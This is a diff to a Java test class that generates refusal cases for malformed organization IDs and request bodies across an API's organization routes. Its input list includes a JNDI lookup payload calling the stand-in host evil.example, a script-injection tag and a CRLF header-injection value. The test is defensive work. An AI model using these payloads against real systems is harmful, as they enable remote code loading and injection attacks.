@@ -75,32 +75,40 @@ class BadInputTest {
             "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", " ", "org\r\nX-Injected: 1", "ORG#org_x", "AUDIT#org_x",
             "org_x#ORG", "-1", "null", "undefined", "[]", "{}", "org_does_not_exist", "\\u0000", "%", "org_\t");
 
-    static final Map<String, String> VALID_BODIES = Map.of(
-            "/identity-health", "", "/audit-events", "",
-            "/portal-links", "{\"intent\":\"domain_verification\"}",
-            "/it-contacts", "{\"emails\":[\"it@acme.com\"]}",
-            "/plan", "{\"sso\":true}");
+    /** A template route with an organization in the path, with its method and a valid body (from the matrix). */
+    record OrgRoute(String method, String suffix, String body) {}
 
-    static final Map<String, String> METHODS = Map.of(
-            "/identity-health", "GET", "/audit-events", "GET", "/portal-links", "POST", "/it-contacts", "PUT", "/plan", "PUT");
+    static List<OrgRoute> orgRoutes() {
+        List<OrgRoute> routes = new ArrayList<>();
+        String prefix = "/organizations/{organizationId}";
+        for (var entry : adv.system.routes().entries()) {
+            String path = entry.route().path();
+            var row = AuthorizationMatrixTest.matrix().get(entry.routeKey());
+            if (path.startsWith(prefix + "/") && row != null) { // a route without a row fails the matrix test
+                routes.add(new OrgRoute(entry.route().method(), path.substring(prefix.length()), row.body()));
+            }
+        }
+        return routes;
+    }
 
     @Test
     void pathsWithAnyOrganizationIdAreRefused() throws Exception {
         List<Case> cases = new ArrayList<>();
         Map<String, String> sessions = new LinkedHashMap<>();
-        for (String route : METHODS.keySet()) {
-            String method = METHODS.get(route);
-            String body = VALID_BODIES.get(route).isEmpty() ? null : VALID_BODIES.get(route);
-            cases.add(Case.json(route + " with no organization", method, "/organizations" + route, admin, body));
-            cases.add(Case.json(route + " with an empty organization", method, "/organizations//" + route.substring(1), admin, body));
+        List<OrgRoute> routes = orgRoutes();
+        assertTrue(routes.size() >= 5, "organization routes: " + routes);
+        for (OrgRoute r : routes) {
+            String route = r.suffix();
+            cases.add(Case.json(route + " with no organization", r.method(), "/organizations" + route, admin, r.body()));
+            cases.add(Case.json(route + " with an empty organization", r.method(), "/organizations/" + route, admin, r.body()));
             for (String id : WEIRD_IDS) {
                 String label = route + " with organization " + Json.write(id.length() > 40 ? id.substring(0, 40) + "..." : id);
                 String path = "/organizations/" + enc(id) + route;
                 // Acme's owner: not this organization.
-                cases.add(Case.json(label + " (Acme's owner)", method, path, owner, body));
+                cases.add(Case.json(label + " (Acme's owner)", r.method(), path, owner, r.body()));
                 // A session on exactly that "organization": passes the session check, then meets the id check or the table.
-                cases.add(Case.json(label + " (a session on it)", method, path,
-                        sessions.computeIfAbsent(id, org -> adv.token(org, "owner")), body));
+                cases.add(Case.json(label + " (a session on it)", r.method(), path,
+                        sessions.computeIfAbsent(id, org -> adv.token(org, "owner")), r.body()));
             }
         }
         assertTrue(cases.size() > 250, "cases: " + cases.size());
@@ -195,13 +203,21 @@ class BadInputTest {
     void badBodiesAreRefused() throws Exception {
         List<Case> cases = new ArrayList<>();
         Random random = new Random(SEED);
-        for (String route : List.of("/it-contacts", "/plan", "/portal-links")) {
-            String path = "/organizations/" + adv.acme() + route;
-            String method = METHODS.get(route);
+        // Every route that takes a body: bodies that are not the JSON object it takes.
+        for (OrgRoute r : orgRoutes()) {
+            if (r.body() == null) {
+                continue;
+            }
             int i = 0;
             for (byte[] body : malformedBodies()) {
-                cases.add(new Case(route + " malformed #" + i++, method, path, owner, Map.of(), body));
+                cases.add(new Case(r.suffix() + " malformed #" + i++, r.method(), "/organizations/" + adv.acme() + r.suffix(), owner,
+                        Map.of(), body));
             }
+        }
+        // The routes whose fields this test knows: each field wrong in every way, then seeded random documents.
+        for (String route : List.of("/it-contacts", "/plan", "/portal-links")) {
+            String path = "/organizations/" + adv.acme() + route;
+            String method = route.equals("/portal-links") ? "POST" : "PUT";
             for (String body : INVALID_FIELDS.get(route)) {
                 cases.add(Case.json(route + " " + abbreviate(body), method, path, owner, body));
             }
